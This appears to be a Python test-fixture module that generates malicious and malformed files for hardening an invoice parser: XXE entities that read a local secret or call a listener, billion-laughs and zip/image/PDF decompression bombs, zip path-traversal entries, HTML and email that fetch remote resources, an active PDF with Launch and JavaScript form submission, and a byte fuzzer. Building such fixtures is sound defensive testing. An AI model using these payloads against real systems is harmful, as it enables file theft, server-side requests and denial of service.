"""Files that mean harm or are broken: bombs, entities, traps, and a fuzzer that damages sound ones."""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from fpdf import FPDF
from PIL import Image

from bench.made.papers import make
from bench.made.words import LOCALES

SECRET = "the-secret-of-the-trap-7731"  # noqa: S105 - a mark, no password
_HEAD = b"From: a@shop.example\r\nSubject: Your invoice 7712\r\nDate: Tue, 04 Mar 2025 09:30:00 +0200\r\n"


_SLOW = frozenset(["flate.pdf", "pages.pdf", "bomb.tif"])


def made(address: str, secret: Path, *, small: bool = False) -> Iterator[tuple[str, bytes]]:
    """Every trap once: (name, bytes).

    Args:
        address: host and port of a listener that nobody may reach.
        secret: a file that nobody may read.
        small: leave out what is there to be given up after half a minute.
    """
    yield from _entities(address, secret)
    yield from (bomb for bomb in _bombs() if not (small and bomb[0] in _SLOW))
    yield from _mails(address)
    yield "remote.html", _page(address)
    yield "actions.pdf", _active_pdf(address, secret)
    yield "empty.pdf", b""
    yield "zeros.pdf", bytes(5000)
    yield "header-only.pdf", b"%PDF-1.7\n"
    yield "loop.pdf", _looping_pdf()
    yield "deep.html", b"<div>" * 50_000 + b"Total $44.00"
    yield "deep.xml", b"<Invoice>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</Invoice>"
    yield "long-line.txt", b"Total " + b"9" * 2_000_000
    yield "digits.html", b"<p>Invoice Total $" + b"1,234" * 200_000 + b"</p>"
    yield "dots.txt", b"Invoice no. " + b"1.2-3/" * 100_000
    yield "nul.txt", b"Invoice\x00 Total\x00 $44.00\x00\xed\xa0\x80"
    yield "marks.html", ("<p>Total " + "\u202e" * 5000 + "$44.00" + "\u0301" * 50_000 + "</p>").encode()


def _entities(address: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    root = "<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'><ID>&x;</ID></Invoice>"
    for name, kind in (
        ("file", f"<!ENTITY x SYSTEM 'file://{secret}'>"),
        ("net", f"<!ENTITY x SYSTEM 'http://{address}/x'>"),
        ("parameter", f"<!ENTITY % p SYSTEM 'http://{address}/p.dtd'> %p;"),
    ):
        yield f"entity-{name}.xml", f"<?xml version='1.0'?><!DOCTYPE Invoice [{kind}]>{root}".encode()
    yield "dtd.xml", f"<?xml version='1.0'?><!DOCTYPE Invoice SYSTEM 'http://{address}/x.dtd'>{root}".encode()
    laughs = "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10}'>" for i in range(1, 10))
    yield (
        "laughs.xml",
        (f"<?xml version='1.0'?><!DOCTYPE Invoice [<!ENTITY l0 'ha'>{laughs}]>{root.replace('&x;', '&l9;')}".encode()),
    )
    include = f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{secret}' parse='text'/>"
    yield "include.xml", root.replace("&x;", include).encode()
    style = f"<?xml version='1.0'?><?xml-stylesheet href='http://{address}/x.xsl'?>{root.replace('&x;', '7')}"
    yield "stylesheet.xml", style.encode()


def _bombs() -> Iterator[tuple[str, bytes]]:
    def zipped(files: list[tuple[str, bytes]]) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in files:
                archive.writestr(name, data)
        return out.getvalue()

    yield "bomb.zip", zipped([("a.txt", bytes(60_000_000))])
    inner = zipped([("x.pdf", b"%PDF-1.4 broken")])
    for _ in range(20):
        inner = zipped([("x.zip", inner)])
    yield "nested.zip", inner
    yield "many.zip", zipped([(f"{i}.txt", b"Total $44.00") for i in range(5000)])
    yield "outside.zip", zipped([("../../../escape.pdf", b"%PDF-1.4"), ("/etc/escape.pdf", b"%PDF-1.4")])
    yield "locked.zip", zipped([("a.pdf", b"x")]).replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")
    for name, width, height in (("bomb.png", 60_000, 60_000), ("wide.png", 2_000_000_000, 1)):
        yield name, _png(width, height)
    big = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(big, "TIFF", compression="group4")
    yield "bomb.tif", big.getvalue()
    flate = zlib.compress(bytes(200_000_000), 1)
    yield (
        "flate.pdf",
        (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>endobj\n4 0 obj<<"
            b"/Filter/FlateDecode/Length "
            + str(len(flate)).encode()
            + b">>stream\n"
            + flate
            + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
        ),
    )
    pages = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids["
    yield (
        "pages.pdf",
        pages
        + b"3 0 R " * 100_000
        + (
            b"]/Count 100000>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF"
        ),
    )


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(bytes(10_000_000), 1)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _mails(address: str) -> Iterator[tuple[str, bytes]]:
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nTotal $44.00\r\n"
    yield "parts.eml", _HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 10_000 + b"--b--\r\n"
    mail = _HEAD + b"Content-Type: text/plain\r\n\r\nTotal $44.00\r\n"
    for _ in range(60):
        mail = _HEAD + b"Content-Type: message/rfc822\r\n\r\n" + mail
    yield "nested.eml", mail
    deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(300))
    yield "deep.eml", _HEAD + deep + b"Total $44.00"
    yield "charset.eml", _HEAD + b'Content-Type: text/html; charset="x-\x00unknown"\r\n\r\n<p>Total $44.00 \xff\xfe'
    yield "words.eml", b"Subject: " + b"=?utf-8?b?////?= " * 2000 + b"\r\nFrom: =?\xff?q?=00?= <a@b>\r\n\r\nTotal 1"
    yield "remote.eml", _HEAD + b"Content-Type: text/html\r\n\r\n" + _page(address)
    external = f'message/external-body; access-type=URL; URL="http://{address}/x.pdf"'.encode()
    yield "external.eml", _HEAD + b"Content-Type: " + external + b"\r\n\r\nContent-Type: application/pdf\r\n\r\n"
    yield (
        "base64.eml",
        _HEAD
        + b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!="
        + (base64.b64encode(b"%PDF-1.4") + b"\n") * 50,
    )
    for name, data in (("winmail.dat", b"\x78\x9f\x3e\x22" + bytes(range(256)) * 40), ("smime.p7m", b"\x30\x84" * 900)):
        body = base64.encodebytes(data)
        yield (
            f"{name}.eml",
            (
                _HEAD
                + f'Content-Type: application/octet-stream; name="{name}"\r\n'.encode()
                + b"Content-Transfer-Encoding:"
                b" base64\r\nContent-Disposition: attachment\r\n\r\n" + body
            ),
        )


def _page(address: str) -> bytes:
    there = f"http://{address}"
    return (
        f"<html><head><base href='{there}/'><link rel=stylesheet href='{there}/x.css'><meta http-equiv=refresh "
        f"content='0;url={there}/'><script src='{there}/x.js'></script></head><body background='{there}/b.png'>"
        f"<img src='{there}/x.png'><iframe src='{there}/f'></iframe><object data='{there}/o'></object>"
        f"<svg><image href='{there}/s.png'/></svg><p style='background:url({there}/u)'>Invoice 7712 Total $44.00</p>"
    ).encode()


def _active_pdf(address: str, secret: Path) -> bytes:
    return (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(http://{address}/)>>/AA<</O<</S/Launch/F"
        f"({secret})>>>>/Names<</JavaScript<</Names[(a) 5 0 R]>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>"
        f"endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Annots[<</Type/Annot"
        f"/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://{address}/a)>>>>]>>endobj\n4 0 obj<</F<</FS/URL/F(http://{address}/c)>>"
        f"/Length 0>>stream\n\nendstream endobj\n5 0 obj<</S/JavaScript/JS(this.submitForm('http://{address}/j'))>>"
        f"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    ).encode()


def _looping_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2 /Parent"
        b" 2 0 R>>endobj\ntrailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF"
    )


# -- the fuzzer ------------------------------------------------------------------------------------


def fuzzed(pick: random.Random, cases: int) -> Iterator[tuple[str, bytes]]:
    """Sound mails, PDF, XML, HTML and pictures with bytes changed, doubled, cut and spliced."""
    known = list(seeds())
    for number in range(cases):
        name, sound = pick.choice(known)
        yield f"fuzz {number} {name}", damaged(pick, sound, pick.choice(known)[1])


def damaged(pick: random.Random, sound: bytes, other: bytes) -> bytes:
    """Sound bytes with a few of them changed, doubled, cut, or replaced by another's."""
    data = bytearray(sound)
    for _ in range(pick.choice((1, 2, 4, 8, 30))):
        at = pick.randrange(len(data) + 1)
        way = pick.randrange(6)
        if way == 0:
            data[at : at + 1] = bytes([pick.randrange(256)])
        elif way == 1:
            del data[at : at + pick.choice((1, 3, 40, 4000))]
        elif way == 2:
            data[at:at] = bytes(data[at : at + pick.choice((1, 16, 900))]) * pick.choice((2, 9))
        elif way == 3:
            data[at:at] = pick.choice(
                (b"\x00", b"\xff\xfe", b"9" * 40, b"-1", b"(" * 300, b"%s", b"\xed\xa0\x80", b"<" * 99)
            )
        elif way == 4:
            start = pick.randrange(len(other) + 1)
            data[at : at + 200] = other[start : start + 200]
        else:
            data = data[: max(1, at)]
    return bytes(data[:2_000_000])


def seeds() -> Iterator[tuple[str, bytes]]:
    """Sound files of every kind: (name, bytes)."""
    for locale in LOCALES:
        for seed in (0, 3, 5):
            paper = make(seed, locale)
            yield paper.name, paper.data
    invoice = make(0, "de_DE").data
    mail = _HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
    mail += (
        make(3, "en_US").data + b"\r\n--b\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding:"
    )
    yield "mail.eml", mail + b" base64\r\n\r\n" + base64.encodebytes(invoice) + b"--b--\r\n"
    yield (
        "ubl.xml",
        (
            b"<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'><ID>7</ID><IssueDate>2025-05-02"
            b"</IssueDate><LegalMonetaryTotal><TaxInclusiveAmount currencyID='EUR'>119.00</TaxInclusiveAmount>"
            b"<PayableAmount currencyID='EUR'>119.00</PayableAmount></LegalMonetaryTotal></Invoice>"
        ),
    )
    for form, name in (("PNG", "a.png"), ("JPEG", "a.jpg"), ("TIFF", "a.tif"), ("GIF", "a.gif")):
        out = io.BytesIO()
        Image.new("RGB", (90, 60), "white").save(out, form)
        yield name, out.getvalue()
    locked = FPDF()
    locked.add_page()
    locked.set_encryption(owner_password="owner", user_password="user")  # noqa: S106 - of a file that is made here
    yield "locked.pdf", bytes(locked.output())
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("invoice.pdf", invoice)
    yield "a.zip", packed.getvalue()
